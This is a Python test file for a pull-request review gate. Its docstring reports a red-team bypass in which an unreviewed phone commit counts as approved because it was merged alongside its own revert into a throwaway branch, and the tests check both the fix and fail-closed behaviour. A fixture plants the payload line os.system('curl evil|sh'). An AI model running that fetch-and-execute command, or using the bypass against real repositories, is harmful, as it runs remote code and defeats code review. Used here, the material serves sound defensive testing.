"""Red team red96: the default branch's judgement of a pull request into an unguarded branch (BeyondBaseReview,
7a05f11 + 1c42b62): a landed mobile commit is covered by a merged pull request into ANY branch whose merge holds it.

Broken (fixed since: with any_base, a merged pull request counts for a landed commit only when its merge commit is in
the history of the head being judged):

- `test_a_phone_commit_reviewed_only_with_its_revert_in_a_pr_into_a_throwaway_branch_passes_without_it` (high): the
  merged pull request whose merge "holds" the phone commit need not be in the judged head's history. The collaborator
  opens PR #3 x -> scratch (a throwaway branch) with P (phone: the payload) + R (desktop: puts the file back, adds a
  README line): the PR's diff is a README line; Bob approves R; the collaborator merges it (nothing requires
  approvals on scratch). They then fast-forward develop onto P alone and open PR #9 (P + docs D) into develop. P is
  not #9's (develop holds it), so it is "landed": `commits/P/pulls` names #3, merged, whose merge G holds P, and Bob's
  approval of R "covers" P (R descends from P inside #3's head). Green on D, which holds P's payload without R — a
  head main's PR can hold. Nothing in `_associated`/`_merge_holds` asks that G (the reviewed result) be an ancestor
  of the head judged. (The same works with PR #3 into develop itself, then develop force-pushed back to P and a
  branch kept at G so the clone has it: any_base only makes it easier.) Fix idea: a landed commit's merged PR counts
  only when its merge commit is an ancestor of the head being judged (red95's release branch still passes: develop's
  merge is in release/2's history).

Held (tried): the landed path's `commits/{sha}/pulls` rate-limited and this PR's `pulls/{n}/commits` failing — each
tool/github-failed (+ review/unverifiable), never green (`test_either_api_path_failing_fails_closed`); a PR into
develop after develop merged main, its phone commit reviewed through a merged PR into develop — not falsely blocked
(`test_a_pr_into_develop_after_develop_merged_main_is_not_blocked_for_its_reviewed_phone_commit`). Read, not
separately tested: an approval then force-push of the merged PR back to the phone commit (the final head bounds the
approval: stale); an approval of an earlier head before the phone commit was pushed (not a descendant); dismissed
approvals (latest_decisive: withdrawn); bots (not human); co-authors/committers of the commit (commit_identities of
the landed commit are excluded); squash-merged PRs (the merge does not hold the originals); a merged PR into a branch
deleted since (its merge is not in the clone: bypassed, fail closed). Not specific to this change, and fixed since too: a
reviewer whose `author_association` was MEMBER or COLLABORATOR counted without a permission lookup, though GitHub shows
read-only collaborators and organization members that way (now asked, as anyone but OWNER is:
tests/test_action_review_hostile.py::test_a_read_only_collaborator_or_member_does_not_approve).
"""
from __future__ import annotations

from pathlib import Path

from pytest_httpserver import HTTPServer

from gatekeeper.models import ExitCode
from tests.github_helpers import serve_reviews, synthetic_associated_pull, synthetic_pull_commit, synthetic_review
from tests.test_action import ALICE, MOBILE, REPO
from tests.test_action_review_beyond_base import origin, serve_landed
from tests.test_red66_hostile import WEAK, pr, runner


def _reverted_elsewhere(tmp_path: Path) -> tuple[Path, str, str, str, str, str]:
    """main at M (mobile commits need one approval); develop = M + W (weak policy, nothing guards the push).
    The collaborator pushes `x` = W + P (phone: the payload) + R (desktop: puts app.py back — the PR's net diff is
    a README line) and opens PR #3 x -> `scratch` (a throwaway branch at W, nothing requires approvals there).
    Bob reviews #3's diff — a README line — and approves R; the collaborator merges it (merge commit G on
    scratch). Then they fast-forward develop onto P (unguarded) and open PR #9 `topic` = P + D (docs) -> develop.
    Returns (remote, W, P, R, G, D)."""
    remote, work, _ = origin(tmp_path)
    work.git("checkout", "-q", "-b", "develop")
    weak = work.commit("chore: tidy config\n", {".gatekeeper.yml": WEAK})
    work.git("push", "-q", "origin", "develop", "develop:refs/heads/scratch")
    work.git("checkout", "-q", "-b", "x")
    phone = work.commit("phone: tweak" + MOBILE, {"app.py": "import os; os.system('curl evil|sh')\n"},
                        author=ALICE, committer=ALICE)
    revert = work.commit("docs: readme\n", {"app.py": "print(1)\n", "README.md": "hello\n"})
    work.git("push", "-q", "origin", "x")
    work.git("checkout", "-q", "scratch")
    merged = work.merge("x", "Merge pull request #3 from octo-org/x")
    work.git("push", "-q", "origin", "scratch")
    work.git("push", "-q", "origin", f"{phone}:refs/heads/develop")  # fast-forward, unguarded
    work.git("checkout", "-q", "-b", "topic", phone)
    docs = work.commit("docs: more readme\n", {"NOTES.md": "hi\n"})
    work.git("push", "-q", "origin", "topic")
    return remote, weak, phone, revert, merged, docs


def _serve_pr3(httpserver: HTTPServer, phone: str, revert: str, merged: str) -> None:
    httpserver.expect_request(f"/repos/{REPO}/commits/{phone}/pulls").respond_with_json(
        [synthetic_associated_pull(3, base_ref="scratch", head_sha=revert, merged=True, merge_commit_sha=merged,
                                   author="alice")])
    serve_reviews(httpserver, 3, [synthetic_review("bob", "APPROVED", revert, rid=1)])
    httpserver.expect_request(f"/repos/{REPO}/pulls/3/commits").respond_with_json(
        [synthetic_pull_commit(phone, login="alice", email=ALICE[1]),
         synthetic_pull_commit(revert, login="alice", email=ALICE[1])])


def test_a_phone_commit_reviewed_only_with_its_revert_in_a_pr_into_a_throwaway_branch_passes_without_it(
        tmp_path: Path, httpserver: HTTPServer) -> None:
    remote, weak, phone, revert, merged, docs = _reverted_elsewhere(tmp_path)
    gh = runner(tmp_path / "run", httpserver, remote, docs, 9, [docs], {"develop": False})
    _serve_pr3(httpserver, phone, revert, merged)
    serve_reviews(httpserver, 9, [])
    result = gh.run("pull_request", pr(9, phone, docs, base_ref="develop"))
    assert gh.outputs().get("decision") != "error", result.output
    assert "is not protected" in result.output, result.output
    assert result.return_value == ExitCode.BLOCKED, (
        f"phone commit {phone[:12]} passes as reviewed through PR #3 into scratch, whose merge {merged[:12]} holds "
        f"it together with {revert[:12]}, which takes its payload out again (Bob approved a README line); the head "
        f"{docs[:12]} holds the phone commit without that revert, and is green:\n" + result.output[-2500:])


def test_either_api_path_failing_fails_closed(tmp_path: Path, httpserver: HTTPServer, instant_backoff: list[float]) -> None:
    """Held: the landed path (commits/{sha}/pulls rate-limited) and this PR's path (pulls/9/commits erroring) each
    fail closed — tool/github-failed and review/unverifiable, never green."""
    remote, weak, phone, revert, merged, docs = _reverted_elsewhere(tmp_path)
    gh = runner(tmp_path / "landed", httpserver, remote, docs, 9, [docs], {"develop": False})
    httpserver.expect_request(f"/repos/{REPO}/commits/{phone}/pulls").respond_with_json(
        {"message": "API rate limit exceeded"}, status=403, headers={"X-RateLimit-Remaining": "0"})
    result = gh.run("pull_request", pr(9, phone, docs, base_ref="develop"))
    assert result.return_value != ExitCode.OK, result.output
    assert "review/unverifiable" in result.output and "tool/github-failed" in result.output, result.output

    gh = runner(tmp_path / "own", httpserver, remote, docs, 9, [docs], {"develop": False})
    httpserver.clear()
    httpserver.expect_request(f"/repos/{REPO}/branches/develop").respond_with_json({"name": "develop",
                                                                                   "protected": False})
    serve_reviews(httpserver, 9, [])
    httpserver.expect_request(f"/repos/{REPO}/pulls/9/commits").respond_with_json({"message": "boom"}, status=502)
    _serve_pr3(httpserver, phone, revert, merged)
    result = gh.run("pull_request", pr(9, weak, docs, base_ref="develop", action="edited"))
    assert result.return_value != ExitCode.OK, result.output
    assert "tool/github-failed" in result.output, result.output


def test_a_pr_into_develop_after_develop_merged_main_is_not_blocked_for_its_reviewed_phone_commit(
        tmp_path: Path, httpserver: HTTPServer) -> None:
    """Held (no false block): PR #3 (Alice's phone commit P, approved by Bob at P) merged into develop (G); main moved
    on (a docs commit) and develop merged main (K); PR #9 (a desktop fix) into develop whose head also merged main."""
    remote, work, base = origin(tmp_path)
    work.git("checkout", "-q", "-b", "feature")
    phone = work.commit("phone: tweak" + MOBILE, {"app.py": "print(2)\n"}, author=ALICE, committer=ALICE)
    work.git("checkout", "-q", "-b", "develop", base)
    merged = work.merge("feature", "Merge pull request #3 from octo-org/feature")
    work.git("checkout", "-q", "main")
    work.commit("docs: main moves on\n", {"MAIN.md": "x\n"})
    work.git("push", "-q", "origin", "main")
    work.git("checkout", "-q", "develop")
    synced = work.merge("main", "Merge branch 'main' into develop")
    work.git("push", "-q", "origin", "develop")
    work.git("checkout", "-q", "-b", "fix")
    fix = work.commit("fix: readme\n", {"README.md": "hello\n"})
    work.git("push", "-q", "origin", "fix")
    gh = runner(tmp_path / "run", httpserver, remote, fix, 9, [fix], {"develop": False})
    serve_landed(httpserver, 3, phone, merged)
    serve_reviews(httpserver, 9, [synthetic_review("bob", "APPROVED", fix, rid=2)])
    result = gh.run("pull_request", pr(9, synced, fix, base_ref="develop"))
    assert "is not protected" in result.output, result.output
    assert result.return_value == ExitCode.OK, result.output[-2500:]
